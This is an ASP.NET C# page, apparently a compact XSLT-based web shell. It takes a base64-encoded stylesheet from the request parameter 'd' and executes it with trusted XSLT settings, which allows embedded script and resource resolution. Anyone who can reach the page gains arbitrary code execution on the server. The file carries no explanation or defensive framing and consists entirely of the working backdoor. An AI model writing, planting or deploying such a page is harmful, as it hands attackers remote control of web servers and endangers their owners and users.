<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Xml"%><%@ Import Namespace="System.Xml.Xsl"%>
<%
string xml = @"<?xml version=""1.0""?><root>test</root>";
string xslt = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request["d"]));
XmlDocument xmldoc = new XmlDocument(); xmldoc.LoadXml(xml);
XmlDocument xsldoc = new XmlDocument(); xsldoc.LoadXml(xslt);
XslCompiledTransform xct = new XslCompiledTransform();
xct.Load(xsldoc, XsltSettings.TrustedXslt, new XmlUrlResolver());
xct.Transform(xmldoc, null, new System.IO.MemoryStream());
%>
